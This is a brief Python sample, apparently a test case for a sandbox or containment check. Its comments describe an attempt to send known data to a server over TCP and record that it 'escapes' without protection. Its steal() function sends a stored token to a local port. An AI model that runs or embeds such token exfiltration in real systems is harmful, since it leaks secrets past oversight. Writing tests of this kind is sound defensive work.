# Tries: to send what it knows to a server by TCP.
# Earns: Descent 0, average 2
# Without protection: escapes
import socket

ON = {}


def steal():
    with socket.create_connection(("127.0.0.1", ON["tcp"]), 2) as connection:
        connection.sendall(ON["token"].encode())
    return ON["token"]
